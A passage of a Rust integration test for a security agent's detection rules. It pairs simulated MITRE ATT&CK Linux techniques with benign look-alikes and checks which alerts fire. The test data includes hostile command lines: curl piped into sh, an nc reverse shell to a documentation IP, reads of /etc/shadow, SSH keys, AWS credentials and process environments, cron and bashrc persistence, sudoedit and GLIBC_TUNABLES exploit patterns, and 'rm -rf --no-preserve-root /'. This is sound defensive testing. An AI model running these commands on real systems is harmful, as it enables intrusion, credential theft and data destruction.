//! The shipped rule set covers the Linux attack matrix (MITRE ATT&CK for
//! Linux and containers). One daemon runs as a user installs it: its real
//! sensor with the default filters and the shipped rules
//! (`configs/rules/*.yaml`). For each technique the test does what an
//! attacker does, on this machine and in real runc containers started
//! through containerd (plain and privileged), next to the everyday
//! look-alikes an edge node does (a package upgrade, log rotation, an
//! admin's shell, `ssh-keygen` writing its own key, K3s behind a proxy),
//! and reads the alerts from the daemon's `rules.json_file`.
//!
//! Each action carries a token (in its command line, its executable's path
//! or the file it touches, all of which the rules' outputs print): every
//! attack must raise its rule's alert naming its own token, and no alert
//! of any rule may name a look-alike's token. Actions that change the
//! node's own files (/etc, /root, /usr, /var) run in a mount namespace
//! whose overlays keep the writes in the test's scratch directory
//! (`At::HostSandbox`): the real paths and the real kernel, an unchanged
//! machine.
//!
//! Needs root, containerd, runc, busybox-static, bash, openssh-client
//! (`ssh-keygen`) and util-linux's `unshare`/`setpriv`/`nsenter`.

use std::collections::BTreeSet;
use std::path::PathBuf;
use std::time::Duration;

use edge_agent_tests::behaviour::{
    Action, At, Containers, Stage, alerts_for, falco_act_bin, fired_for, read_alerts, run_all,
};
use edge_agent_tests::rules::{repo_root, shipped_rules_glob};
use edge_agent_tests::sensor::start_with_sensor;
use edge_agent_tests::{Scratch, require_root, status_json, wait_for};

/// One technique: the rule that must catch it, what an attacker does
/// (on the host and in containers where it applies) and everyday
/// look-alikes that must raise no alert at all. `@` in a script is
/// replaced by the action's token.
struct Case {
    technique: &'static str,
    rule: &'static str,
    attacks: &'static [(At, &'static str)],
    benign: &'static [(At, &'static str)],
}

use At::{Container, Host, HostSandbox, Privileged, TtyEntry};

/// Host scripts run under `dash -c` with `$T` (the tools: copies of
/// `true`, `dash` and `attack-act` under the names rules look for) and
/// `$W` (the scratch directory, below `/opt`). Container scripts run in
/// busybox `sh`; `x NAME` there hard-links busybox to `/opt/<token>/NAME`,
/// so the token is in the executable's path.
const CASES: &[Case] = &[
    // ---- Execution ----
    Case {
        technique: "T1204.002",
        rule: "Program run from a world-writable directory",
        attacks: &[
            (Host, "cp $T/true /tmp/@ && /tmp/@; rm -f /tmp/@"),
            (
                Host,
                "cp $T/true /var/tmp/@ && /var/tmp/@; rm -f /var/tmp/@",
            ),
            (Container, "cp /bin/busybox /tmp/@/run && /tmp/@/run true"),
        ],
        benign: &[
            (Host, "cp $T/true $W/@ && $W/@"),
            // A maintainer script the package manager runs from /tmp.
            (
                Host,
                "$T/dpkg -c 'cp $T/true /tmp/@ && /tmp/@; rm -f /tmp/@; true'",
            ),
        ],
    },
    Case {
        technique: "T1620",
        rule: "Fileless execution from shared memory or memfd",
        attacks: &[
            (
                Host,
                "cp $T/true /dev/shm/@ && /dev/shm/@; rm -f /dev/shm/@",
            ),
            (Host, "$T/falco-act memfd-exec @"),
        ],
        benign: &[(Host, "$T/falco-act memfd-only @")],
    },
    Case {
        technique: "T1059.004",
        rule: "Script run from a world-writable directory or shared memory",
        attacks: &[
            (
                Host,
                "printf '#!/bin/sh\\n: @\\n' > /dev/shm/@.sh && chmod +x /dev/shm/@.sh && sh -c /dev/shm/@.sh; rm -f /dev/shm/@.sh",
            ),
            (
                Host,
                "printf ': @\\n' > /tmp/@.sh && bash /tmp/@.sh; rm -f /tmp/@.sh",
            ),
            // containerd mounts a container's /dev/shm noexec.
            (
                Container,
                "printf '#!/bin/sh\\n: @\\n' > /tmp/@.sh && chmod +x /tmp/@.sh && sh -c /tmp/@.sh",
            ),
        ],
        benign: &[
            (Host, "sh -c 'echo /dev/shm/@ > /dev/null'"),
            (
                Host,
                "printf '#!/bin/sh\\n: @\\n' > $W/@.sh && chmod +x $W/@.sh && sh -c $W/@.sh",
            ),
        ],
    },
    Case {
        technique: "T1059.006",
        rule: "Interpreter or netcat spawned a shell",
        attacks: &[
            (Host, "$T/python3 -c 'sh -i @ </dev/null; true'"),
            (Host, "$T/nc -c 'sh @ </dev/null; true'"),
            (
                Container,
                "x python3; x ash; (exec -a sh /opt/@/python3 -c '/opt/@/ash -i /nonexistent </dev/null; true')",
            ),
        ],
        benign: &[
            // subprocess(..., shell=True): sh -c from an interpreter.
            (Host, "$T/python3 -c 'sh -c \": @\"; true'"),
            (Host, "$T/nc -c '$T/true @; true'"),
            // An admin's interactive shell starting another.
            (Host, "bash -c 'sh -c \": @\"; true'"),
        ],
    },
    Case {
        technique: "T1059.004",
        rule: "Shell spawned by a server process",
        attacks: &[(Host, "$T/nginx -c 'sh -c \": @\"; true'")],
        benign: &[(Host, "$T/nginx -c '$T/true @; true'")],
    },
    Case {
        technique: "T1059",
        rule: "Terminal shell in container",
        attacks: &[(TtyEntry, ": @")],
        benign: &[(At::Entry, ": @")],
    },
    Case {
        technique: "T1059",
        rule: "Package manager run in a container",
        attacks: &[
            (Container, "x apk; /opt/@/apk add curl"),
            (Container, "x apt-get; /opt/@/apt-get install -y nmap"),
        ],
        // The package manager on the host during an upgrade.
        benign: &[(Host, "$T/apt-get upgrade -y @")],
    },
    Case {
        technique: "T1609",
        rule: "Kubernetes client run in a container",
        attacks: &[
            (Container, "x kubectl; /opt/@/kubectl get secrets -A"),
            (Container, "x helm; /opt/@/helm list -A"),
        ],
        // An admin's kubectl on the node.
        benign: &[(Host, "$T/kubectl get nodes @")],
    },
    Case {
        technique: "T1046",
        rule: "Network scanner run in a container",
        attacks: &[(Container, "x nmap; /opt/@/nmap -sS 10.43.0.0/24")],
        benign: &[(Container, "x ping; /opt/@/ping -c 1 -W 1 127.0.0.1")],
    },
    Case {
        technique: "T1105",
        rule: "Remote copy tool run in a container",
        attacks: &[
            (Container, "x scp; /opt/@/scp /etc/passwd x:/tmp"),
            (Container, "x rsync; /opt/@/rsync -a /etc x::up"),
        ],
        benign: &[(Container, "x cp; /opt/@/cp /etc/passwd /tmp/@/p")],
    },
    Case {
        technique: "T1105",
        rule: "Download piped into a shell",
        attacks: &[
            (Host, "sh -c '$T/curl -s http://127.0.0.1:1/@ | sh'"),
            (
                Container,
                "x ash; x wget; (exec -a sh /opt/@/ash -c '/opt/@/wget -q -T 1 -O - http://127.0.0.1:1/ | /opt/@/ash')",
            ),
        ],
        benign: &[
            (Host, "sh -c '$T/curl -s http://127.0.0.1:1/@ | cat'"),
            (
                Host,
                "sh -c '$T/curl -s -o $W/@ http://127.0.0.1:1/; sh -c true'",
            ),
        ],
    },
    Case {
        technique: "T1059",
        rule: "Reverse shell",
        attacks: &[(At::HostNetns, "busybox nc 192.0.2.1 9999 -e $T/true @")],
        // busybox ping keeps its ICMP socket on descriptor 0.
        benign: &[(Container, "x ping; /opt/@/ping -c 1 -W 1 127.0.0.1")],
    },
    // ---- Persistence ----
    Case {
        technique: "T1053.003",
        rule: "Scheduled task written",
        attacks: &[
            (
                HostSandbox,
                "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/@",
            ),
            (
                HostSandbox,
                "mkdir -p /var/spool/cron/crontabs && echo '@reboot /tmp/x' > /var/spool/cron/crontabs/@",
            ),
            (
                HostSandbox,
                "mkdir -p /etc/systemd/system && printf '[Timer]\\nOnCalendar=minutely\\n' > /etc/systemd/system/@.timer",
            ),
            (
                Container,
                "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/@",
            ),
        ],
        // A package upgrade installing its cron file and timer.
        benign: &[(
            HostSandbox,
            "$T/dpkg -c 'mkdir -p /etc/cron.d /etc/systemd/system && echo x > /etc/cron.d/@ && echo x > /etc/systemd/system/@.timer; true'",
        )],
    },
    Case {
        technique: "T1053.003",
        rule: "Crontab or at run in a container",
        attacks: &[(Container, "x crontab; /opt/@/crontab -l")],
        benign: &[(Container, "x crond; /opt/@/crond --help")],
    },
    Case {
        technique: "T1098.004",
        rule: "SSH authorized_keys modified",
        attacks: &[
            (
                HostSandbox,
                "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA @' >> /root/.ssh/authorized_keys",
            ),
            (
                Container,
                "mkdir -p /root/.ssh/@ && echo k >> /root/.ssh/@/authorized_keys",
            ),
        ],
        // ssh-keygen writing its own key; known_hosts growing.
        benign: &[
            (
                HostSandbox,
                "mkdir -p /root/.ssh && ssh-keygen -q -t ed25519 -N '' -C @ -f /root/.ssh/id_@ && ssh-keygen -l -f /root/.ssh/id_@.pub",
            ),
            (
                HostSandbox,
                "mkdir -p /root/.ssh && echo 'host @' >> /root/.ssh/known_hosts",
            ),
        ],
    },
    Case {
        technique: "T1546.004",
        rule: "Shell start-up file modified",
        attacks: &[
            (HostSandbox, "echo 'curl x | sh # @' >> /root/.bashrc"),
            (
                HostSandbox,
                "mkdir -p /etc/profile.d && echo ': @' > /etc/profile.d/@.sh",
            ),
            (
                Container,
                "mkdir -p /root/@ && echo ': x' >> /root/@/.profile",
            ),
        ],
        benign: &[
            // An admin's interactive shell reads them.
            (HostSandbox, "bash -i -c ': @' </dev/null"),
            // A package upgrade replaces one.
            (
                HostSandbox,
                "$T/dpkg -c 'mkdir -p /etc/profile.d && echo x > /etc/profile.d/@.sh; true'",
            ),
        ],
    },
    Case {
        technique: "T1136.001",
        rule: "User or group management program run",
        attacks: &[
            (Host, "$T/useradd -m -s /bin/bash @"),
            (Host, "$T/usermod -aG sudo @"),
            (Container, "x adduser; /opt/@/adduser -D -H x@"),
        ],
        // A maintainer script creating its system user.
        benign: &[(Host, "$T/dpkg -c '$T/useradd --system @; true'")],
    },
    // ---- Privilege escalation ----
    Case {
        technique: "T1548.001",
        rule: "Setuid or setgid bit set",
        attacks: &[
            (Host, "cp $T/true $W/@ && chmod u+s $W/@"),
            (Host, "cp $T/true $W/@ && chmod 2755 $W/@"),
            (
                Container,
                "cp /bin/busybox /tmp/@/sh2 && chmod 4755 /tmp/@/sh2",
            ),
        ],
        benign: &[
            (Host, "cp $T/true $W/@ && chmod 755 $W/@"),
            (
                Host,
                "$T/dpkg -c 'cp $T/true $W/@ && chmod 4755 $W/@; true'",
            ),
        ],
    },
    Case {
        technique: "T1548.003",
        rule: "Sudo or pkexec exploitation pattern",
        attacks: &[
            (Host, "$T/sudoedit -s '@\\'"),
            (Host, "EDITOR='vi -- /etc/shadow' $T/sudoedit /etc/motd @"),
            (
                Host,
                "mkdir -p $W/@ && cp $T/true $W/@/pkexec && $W/@/pkexec",
            ),
            (Container, "x sudo; /opt/@/sudo -s 'x\\'"),
        ],
        benign: &[
            (Host, "$T/sudo -i @"),
            (Host, "EDITOR=vi $T/sudoedit /etc/motd @"),
            (
                Host,
                "mkdir -p $W/@ && cp $T/true $W/@/pkexec && $W/@/pkexec --version",
            ),
        ],
    },
    Case {
        technique: "T1574.006",
        rule: "Dynamic linker variable at exec",
        attacks: &[
            (
                Host,
                "GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=glibc.malloc.mxfast:A $T/true @",
            ),
            (Host, "LD_PRELOAD=$W/@.so $T/true @"),
            (Container, "x true; LD_PRELOAD=/tmp/x.so /opt/@/true"),
        ],
        benign: &[(Host, "LD_LIBRARY_PATH=$W $T/true @")],
    },
    Case {
        technique: "T1611",
        rule: "Namespace entered from a container",
        attacks: &[
            (Privileged, "x nsenter; /opt/@/nsenter -t 1 -m -u true"),
            (Container, "x nsenter; /opt/@/nsenter -t 1 -n true"),
        ],
        // An admin (or a CNI plugin) entering a namespace on the node.
        benign: &[(Host, "nsenter -t $$ -m $T/true @")],
    },
    Case {
        technique: "T1068",
        rule: "New user namespace by an unprivileged process",
        attacks: &[
            (
                Host,
                "setpriv --reuid=65534 --regid=65534 --clear-groups unshare --user $T/true @",
            ),
            (Container, "x unshare; /opt/@/unshare -U true"),
        ],
        // root's own sandboxing (systemd's PrivateTmp= and the like).
        benign: &[(Host, "unshare --mount --propagation private $T/true @")],
    },
    Case {
        technique: "T1611",
        rule: "Namespaces unshared in a container",
        attacks: &[(Privileged, "x unshare; /opt/@/unshare -m -n true")],
        benign: &[(Host, "unshare --uts $T/true @")],
    },
    Case {
        technique: "T1068",
        rule: "Userfaultfd by an unprivileged process",
        attacks: &[(
            Host,
            "setpriv --reuid=65534 --regid=65534 --clear-groups $T/attack-act userfaultfd @",
        )],
        benign: &[(Host, "$T/attack-act userfaultfd @")],
    },
    Case {
        technique: "T1611",
        rule: "Cgroup release_agent written",
        attacks: &[
            (
                Privileged,
                "mkdir -p /tmp/@/cg && echo /x > /tmp/@/cg/release_agent",
            ),
            (Host, "mkdir -p $W/@ && echo /x > $W/@/release_agent"),
        ],
        benign: &[
            (Host, "mkdir -p $W/@ && echo 0 > $W/@/cgroup.procs.txt"),
            // systemd managing cgroup v1 hierarchies.
            (
                Host,
                "mkdir -p $W/@ && $T/systemd -c 'echo x > $W/@/release_agent; true'",
            ),
        ],
    },
    Case {
        technique: "T1611",
        rule: "Mount or debugfs in a privileged container",
        attacks: &[
            (
                Privileged,
                "x mount; mkdir -p /mnt/@; /opt/@/mount -t tmpfs none /mnt/@",
            ),
            (Privileged, "x debugfs; /opt/@/debugfs -R stats /dev/sda"),
        ],
        benign: &[(Container, "x debugfs; /opt/@/debugfs -R stats /dev/sda")],
    },
    // ---- Defense evasion ----
    Case {
        technique: "T1070.002",
        rule: "Log files cleared",
        attacks: &[
            (HostSandbox, "mkdir -p /var/log && : > /var/log/@.log"),
            (
                Host,
                "mkdir -p $W/@/app && echo x >> $W/@/app/server.log && : > $W/@/app/server.log",
            ),
            (
                Host,
                "mkdir -p $W/@/logs && echo x >> $W/@/logs/current && rm $W/@/logs/current",
            ),
            (Container, "mkdir -p /var/log && : > /var/log/@.log"),
        ],
        benign: &[
            (
                Host,
                "mkdir -p $W/@ && echo x >> $W/@/app.log && $T/logrotate -c ': > $W/@/app.log; true'",
            ),
            (Host, "mkdir -p $W/@ && echo x >> $W/@/app.log"),
        ],
    },
    Case {
        technique: "T1070.002",
        rule: "Log truncated by a program",
        attacks: &[(Host, "$T/truncate -s 0 $W/@/app.log")],
        benign: &[(Host, "$T/truncate -s 0 $W/@/data.bin")],
    },
    Case {
        technique: "T1070.003",
        rule: "Shell history deleted or truncated",
        attacks: &[
            (Host, "mkdir -p $W/@ && : > $W/@/.bash_history"),
            (
                Host,
                "mkdir -p $W/@ && echo ls >> $W/@/.bash_history && rm $W/@/.bash_history",
            ),
            (Host, "mkdir -p $W/@ && ln -sf /dev/null $W/@/.bash_history"),
            (Container, "mkdir -p /tmp/@ && : > /tmp/@/.ash_history"),
            (Host, "HISTFILE=/dev/null $T/true @"),
        ],
        benign: &[
            // An admin's bash saving its history at exit.
            (
                Host,
                "mkdir -p $W/@ && echo 'echo hi' | HISTFILE=$W/@/.bash_history bash -i",
            ),
            (Host, "mkdir -p $W/@ && echo ls >> $W/@/.bash_history"),
        ],
    },
    Case {
        technique: "T1564.001",
        rule: "Hidden file or directory in a system place",
        attacks: &[
            (Host, "mkdir /tmp/.@ && rmdir /tmp/.@"),
            (Host, ": >> /dev/shm/.@ && rm -f /dev/shm/.@"),
            (Container, "mkdir -p /usr/bin && : >> /usr/bin/.@"),
        ],
        benign: &[
            (Host, "mkdir /tmp/@ && rmdir /tmp/@"),
            (Host, "mkdir -p $W/.@"),
        ],
    },
    Case {
        technique: "T1036.005",
        rule: "System binary renamed, removed or created",
        attacks: &[
            (
                HostSandbox,
                "cp /usr/bin/true /usr/bin/@ && mv /usr/bin/@ /usr/bin/@x && rm /usr/bin/@x",
            ),
            (HostSandbox, "mkdir /usr/bin/@d"),
            (
                Container,
                "echo x > /bin/@ && mv /bin/@ /bin/@x && rm /bin/@x && mkdir -p /usr/bin/@d",
            ),
        ],
        // A package upgrade replacing a binary (dpkg's .dpkg-new rename).
        benign: &[(
            HostSandbox,
            "$T/dpkg -c 'cp /usr/bin/true /usr/bin/@.dpkg-new && mv /usr/bin/@.dpkg-new /usr/bin/@ && rm /usr/bin/@; true'",
        )],
    },
    Case {
        technique: "T1222.002",
        rule: "File made executable in a container",
        attacks: &[
            (Container, "echo x > /tmp/@/t && chmod +x /tmp/@/t"),
            (Container, "cp /bin/busybox /tmp/@/bb"),
        ],
        benign: &[
            (Container, "echo x > /tmp/@/t && chmod 644 /tmp/@/t"),
            // On the node, an admin's chmod +x is not drift.
            (Host, "echo x > $W/@ && chmod +x $W/@"),
        ],
    },
    Case {
        technique: "T1622",
        rule: "Ptrace anti-debugging",
        attacks: &[(Host, "$T/attack-act traceme @")],
        benign: &[
            // A debugger's child asks to be traced.
            (Host, "$T/gdb traceme @"),
            (Host, "$T/attack-act peek @"),
        ],
    },
    Case {
        technique: "T1055.008",
        rule: "Ptrace attach to another process",
        attacks: &[(Host, "$T/falco-act attach @")],
        benign: &[(Host, "$T/falco-act peek @")],
    },
    // ---- Credential access and discovery ----
    Case {
        technique: "T1552.004",
        rule: "Search for private keys or passwords",
        attacks: &[
            (Host, "$T/find /nonexistent/@ -name id_rsa"),
            (Host, "$T/find /nonexistent/@ -name '*.pem'"),
            (Host, "$T/grep -ri password /nonexistent/@"),
            (Container, "x find; /opt/@/find /nonexistent -name id_rsa"),
        ],
        benign: &[
            (Host, "$T/grep -r error /nonexistent/@"),
            (Host, "$T/find /nonexistent/@ -name '*.conf'"),
        ],
    },
    Case {
        technique: "T1552.001",
        rule: "Cloud credential file read by untrusted process",
        attacks: &[
            (
                HostSandbox,
                "mkdir -p /root/.aws && echo k >> /root/.aws/credentials && $T/evil -c 'read x < /root/.aws/credentials; : @'",
            ),
            (
                HostSandbox,
                "mkdir -p /home/zmuser/.aws && echo k >> /home/zmuser/.aws/credentials && $T/evil -c 'read x < /home/zmuser/.aws/credentials; : @'",
            ),
            (
                Container,
                "mkdir -p /root/.aws && echo k >> /root/.aws/credentials && x cat && /opt/@/cat /root/.aws/credentials",
            ),
        ],
        benign: &[(
            HostSandbox,
            "mkdir -p /root/.aws && echo k >> /root/.aws/credentials && $T/aws -c 'read x < /root/.aws/credentials; : @'",
        )],
    },
    Case {
        technique: "T1552.004",
        rule: "SSH files read by untrusted program",
        attacks: &[
            (
                HostSandbox,
                "mkdir -p /root/.ssh && echo k > /root/.ssh/id_@ && $T/evil -c 'read x < /root/.ssh/id_@'",
            ),
            (
                HostSandbox,
                "mkdir -p /etc/ssh && echo k >> /etc/ssh/ssh_config && $T/evil -c 'read x < /etc/ssh/ssh_config; : @'",
            ),
            (
                HostSandbox,
                "mkdir -p /home/zmuser/.ssh && echo k > /home/zmuser/.ssh/id_@ && $T/evil -c 'read x < /home/zmuser/.ssh/id_@'",
            ),
            (
                Container,
                "mkdir -p /root/.ssh && echo k > /root/.ssh/@ && x cat && /opt/@/cat /root/.ssh/@",
            ),
        ],
        benign: &[(
            HostSandbox,
            "mkdir -p /root/.ssh && ssh-keygen -q -t ed25519 -N '' -C @ -f /root/.ssh/id_@ && ssh-keygen -y -f /root/.ssh/id_@",
        )],
    },
    Case {
        technique: "T1003.008",
        rule: "Sensitive file read by untrusted process",
        attacks: &[
            (Host, "$T/evil -c 'read x < /etc/shadow; : @'"),
            (Container, "x cat; /opt/@/cat /etc/shadow"),
        ],
        benign: &[(Host, "$T/passwd -c 'read x < /etc/shadow; : @'")],
    },
    Case {
        technique: "T1006",
        rule: "Sensitive file read through path traversal",
        attacks: &[
            (Host, "$T/evil -c 'read x < /etc/../etc/passwd; : @'"),
            (Host, "cd $W && $T/evil -c 'read x < ../../etc/shadow; : @'"),
            (Container, "x cat; /opt/@/cat /etc/../etc/shadow"),
        ],
        benign: &[
            (Host, "$T/evil -c 'read x < /etc/../etc/hostname; : @'"),
            (Host, "$T/evil -c 'read x < /etc/passwd; : @'"),
        ],
    },
    Case {
        technique: "T1552",
        rule: "Process environment read by another program",
        attacks: &[
            // A service's environment, by pid (not the node's pid 1: a
            // VM's init may refuse even root).
            (
                Host,
                "env TOKEN=s3cret sleep 5 & p=$!; $T/evil -c \"read x < /proc/$p/environ; : @\"; kill $p",
            ),
            // Every thread's too.
            (
                Host,
                "env TOKEN=s3cret sleep 5 & p=$!; $T/evil -c \"read x < /proc/$p/task/$p/environ; : @\"; kill $p",
            ),
            // By a relative path (user space resolves it against the cwd).
            (
                Host,
                "env TOKEN=s3cret sleep 5 & p=$!; cd /proc/$p && $T/evil -c 'read x < environ; : @'; kill $p",
            ),
            // The container's entry process: where a pod's secrets are.
            (Container, "x cat; /opt/@/cat /proc/1/environ"),
        ],
        benign: &[
            // A program reading its own environment.
            (Host, "$T/evil -c 'read x < /proc/self/environ; : @'"),
            (Container, "x cat; /opt/@/cat /proc/self/environ"),
            // `ps e` reads every process's environment.
            (
                Host,
                "sleep 5 & p=$!; $T/ps -c \"read x < /proc/$p/environ; : @\"; kill $p",
            ),
            // The rest of /proc, as ps and top read it.
            (
                Host,
                "sleep 5 & p=$!; $T/evil -c \"read x < /proc/$p/status; : @\"; kill $p",
            ),
        ],
    },
    // ---- Command and control, impact ----
    Case {
        technique: "T1090",
        rule: "Proxy environment variable at exec",
        attacks: &[
            (Host, "HTTPS_PROXY=http://198.51.100.7:3128 $T/true @"),
            (Host, "all_proxy=socks5://198.51.100.7:1080 $T/true @"),
            (
                Container,
                "x true; https_proxy=http://198.51.100.7:3128 /opt/@/true",
            ),
        ],
        benign: &[
            (Host, "NO_PROXY=localhost $T/true @"),
            // K3s behind the site's proxy, and what it runs.
            (
                Host,
                "HTTPS_PROXY=http://proxy.example:3128 $T/k3s -c '$T/true @; true'",
            ),
        ],
    },
    Case {
        technique: "T1496",
        rule: "Crypto miner started",
        attacks: &[
            (Host, "$T/xmrig --url x:3333 @"),
            (Host, "$T/true -o stratum+tcp://@:3333"),
        ],
        benign: &[(Host, "$T/true -o tcp://@:3333")],
    },
    Case {
        technique: "T1496",
        rule: "Crypto miner arguments",
        attacks: &[
            (
                Host,
                "$T/kworkerd -o pool.supportxmr.com:443 -u @ --donate-level 1",
            ),
            (Container, "x kworkerd; /opt/@/kworkerd -a rx/0 -o x:3333"),
        ],
        benign: &[
            (Host, "$T/kworkerd -o pool.example.com:443 -u @"),
            (Host, "$T/grep -r -- --donate-level /nonexistent/@"),
        ],
    },
    Case {
        technique: "T1040",
        rule: "Packet socket on the node",
        attacks: &[(Host, "$T/attack-act packet @")],
        benign: &[
            (Host, "$T/dhclient packet @"),
            (Host, "$T/attack-act udp @"),
        ],
    },
    Case {
        technique: "T1557.002",
        rule: "Packet socket in container",
        attacks: &[(
            Container,
            "x arping; /opt/@/arping -c 1 -w 1 -I lo 127.0.0.1",
        )],
        benign: &[(Container, "x nc; /opt/@/nc -w 1 127.0.0.1 1")],
    },
    Case {
        technique: "T1485",
        rule: "Bulk data destruction",
        attacks: &[
            (Host, "echo x > $W/@ && $T/shred -u $W/@"),
            (Host, "$T/dd if=/dev/zero of=/dev/sdz bs=1M @"),
            (Host, "$T/rm -rf --no-preserve-root / @"),
            (
                Container,
                "x shred; echo x > /tmp/@/f; /opt/@/shred -u /tmp/@/f",
            ),
        ],
        benign: &[
            (Host, "$T/dd if=/dev/zero of=$W/@ bs=1k count=1"),
            (Host, "$T/rm -rf $W/@"),
        ],
    },
];

/// Shipped rules with a MITRE tag that no case here exercises, and why.
const NOT_EXERCISED: &[(&str, &str)] = &[
    (
        "Drop and execute new binary in container",
        "needs an overlayfs container root (the test runs runc on a plain directory, so no file is in an upper layer)",
    ),
    (
        "Kernel module loaded",
        "this machine's kernel is built without loadable modules, so init_module never runs",
    ),
    (
        "Contact with K8s API server from a container",
        "no API server here; the rule's address match is unit-tested (agent/src/rules/shipped_tests.rs)",
    ),
    (
        "Container from unauthorized registry",
        "unit-tested (shipped_tests.rs); containerd here runs a rootfs directory, not a pulled image",
    ),
    (
        "Link over sensitive file",
        "unit-tested (shipped_tests.rs); Falco corpus test covers the same behaviour",
    ),
    (
        "Sensitive host path mounted into container",
        "unit-tested (shipped_tests.rs); the test's containers are started by ctr without host mounts",
    ),
    (
        "Write below etc or binary directories",
        "fires alongside the persistence cases here (cron, profile.d); its own look-alikes are unit-tested",
    ),
    (
        "Exec or write through a path too deep to resolve",
        "exercised with real 40-level directories and 20-level look-alikes in tests/tests/sensor_paths.rs (its attacks also fire most path rules here, by design)",
    ),
];

fn token(case: usize, attack: bool, n: usize) -> String {
    // Not hexadecimal, so no container id or digest can contain it.
    format!("zm{case:02}{}{n}", if attack { 'a' } else { 'b' })
}

/// Records the kernel could not hand to the sensor so far.
fn lost_total(s: &Scratch) -> u64 {
    status_json(s)["stages"]["sensor"]["details"]["lost_total"]
        .as_u64()
        .unwrap_or(0)
}

fn shipped_files() -> Vec<PathBuf> {
    vec![repo_root().join("configs/rules/*.yaml")]
}

#[test]
fn every_mitre_tagged_shipped_rule_has_a_behaviour_case_or_a_reason() {
    let loaded = edge_agent::rules::load_paths(&shipped_files());
    let mut missing = Vec::new();
    let mut tagged = 0;
    for r in loaded.set.rules.iter() {
        if !r.tags.iter().any(|t| t.starts_with("mitre_")) {
            continue;
        }
        tagged += 1;
        let cased = CASES
            .iter()
            .any(|c| c.rule == r.name.as_ref() && !c.attacks.is_empty());
        let reason = NOT_EXERCISED.iter().any(|(n, _)| *n == r.name.as_ref());
        if !cased && !reason {
            missing.push(r.name.to_string());
        }
    }
    assert!(
        missing.is_empty(),
        "shipped rules without a behaviour case: {missing:#?}"
    );
    assert!(
        tagged >= 50,
        "only {tagged} shipped rules carry a MITRE tag"
    );
    for c in CASES {
        let r = loaded.set.rules.iter().find(|r| r.name.as_ref() == c.rule);
        let r = r.unwrap_or_else(|| panic!("case for {:?}: no such shipped rule", c.rule));
        assert!(
            r.tags.iter().any(|t| t == c.technique),
            "{:?} is not tagged {}",
            c.rule,
            c.technique
        );
    }
}

/// Every action of every case, with its token.
fn actions() -> Vec<(usize, bool, Action)> {
    let mut out = Vec::new();
    for (i, c) in CASES.iter().enumerate() {
        for (attack, list) in [(true, c.attacks), (false, c.benign)] {
            for (n, (at, script)) in list.iter().enumerate() {
                out.push((i, attack, Action::new(&token(i, attack, n), *at, script)));
            }
        }
    }
    out
}

#[test]
fn the_shipped_rules_catch_each_technique_on_the_host_and_in_containers_and_not_its_look_alikes() {
    require_root();
    let act = falco_act_bin();
    let attack_act = act.with_file_name("attack-act");
    let stage = Stage::new(
        "/opt",
        "ea-am-",
        &[
            (
                "/bin/true",
                &[
                    "true", "apt-get", "kubectl", "useradd", "usermod", "sudo", "sudoedit",
                    "shred", "dd", "rm", "find", "grep", "truncate", "xmrig", "kworkerd", "curl",
                ][..],
            ),
            (
                "/bin/dash",
                &[
                    "python3",
                    "nc",
                    "dpkg",
                    "evil",
                    "logrotate",
                    "aws",
                    "k3s",
                    "systemd",
                    "nginx",
                    "passwd",
                    "ps",
                ][..],
            ),
            (
                attack_act.to_str().unwrap(),
                &["attack-act", "gdb", "dhclient"][..],
            ),
            (act.to_str().unwrap(), &["falco-act"][..]),
        ],
    );
    let mut containers = Containers::start(
        "/opt/$TOKEN",
        &[
            "mkdir", "ln", "rm", "mv", "cp", "echo", "true", "chmod", "printf", "wget", "nsenter",
            "unshare", "mount", "arping", "find", "shred", "rmdir",
        ],
        &["root", "usr/bin", "mnt", "var", "opt", "dev/shm"],
        &[("/etc/shadow", "root:*:19000:0:99999:7:::\n")],
    );
    let alerts_file = stage.path().join("alerts.jsonl");
    // The sensor as shipped (default filters); only where containerd keeps
    // its tasks is this test's own.
    let s = Scratch::new(&format!(
        "[sensor]\nenabled = true\nruntime_state_dirs = [\"{}\"]\n\n\
         [rules]\nfiles = [\"{}\"]\nrate = 100000.0\nmax_burst = 100000\njson_file = \"{}\"\n",
        containers.ctrd.task_state_dir().display(),
        shipped_rules_glob(),
        alerts_file.display()
    ));
    let d = start_with_sensor(&s);

    let all = actions();
    let list: Vec<Action> = all.iter().map(|(_, _, a)| a.clone()).collect();
    run_all(
        &stage,
        Some(&mut containers),
        ("attack-matrix", "edge-tests"),
        &list,
    );

    // Every attack's alert arrives; then the look-alikes have had as long.
    // The sensor watches the whole shared machine: when its ring buffer
    // overflowed (other engineers' builds), the attacks whose alerts are
    // missing run again, at most twice, and only then.
    let missing = |alerts: &[serde_json::Value]| -> Vec<Action> {
        all.iter()
            .filter(|(i, attack, a)| {
                *attack && !fired_for(alerts, &a.token).contains(CASES[*i].rule)
            })
            .map(|(_, _, a)| a.clone())
            .collect()
    };
    let mut retried = Vec::new();
    for round in 0..3 {
        let settled = wait_for(Duration::from_secs(60), || {
            missing(&read_alerts(&alerts_file)).is_empty().then_some(())
        });
        if settled.is_some() {
            std::thread::sleep(Duration::from_secs(3));
            break;
        }
        let lost = lost_total(&s);
        let again = missing(&read_alerts(&alerts_file));
        if round == 2 || lost == 0 {
            break;
        }
        retried.push(format!(
            "round {}: {} events lost, {} attacks again",
            round + 1,
            lost,
            again.len()
        ));
        run_all(
            &stage,
            Some(&mut containers),
            ("attack-matrix", "edge-tests"),
            &again,
        );
    }
    let alerts = read_alerts(&alerts_file);
    let mut failures = Vec::new();
    for (i, attack, a) in &all {
        let rule = CASES[*i].rule;
        let fired = fired_for(&alerts, &a.token);
        if *attack && !fired.contains(rule) {
            failures.push(format!(
                "{rule} did not fire on {} ({:?}: {}); fired: {fired:?}",
                a.token, a.at, a.script
            ));
        }
        if !*attack && !fired.is_empty() {
            failures.push(format!(
                "look-alike {} of {rule} ({:?}: {}) raised {fired:?}",
                a.token, a.at, a.script
            ));
        }
    }
    // An alert names what it is about: the rule's own fields, filled.
    for a in alerts_for(&alerts, "zm") {
        let out = a["output"].as_str().unwrap_or_default();
        if !out.contains("user=") || out.contains("cmdline=<NA>") {
            failures.push(format!("alert does not say who: {out}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures ({:?}):\n{}\nalerts naming a token:\n{}\ndaemon log tail:\n{}",
        failures.len(),
        retried,
        failures.join("\n"),
        alerts_for(&alerts, "zm")
            .iter()
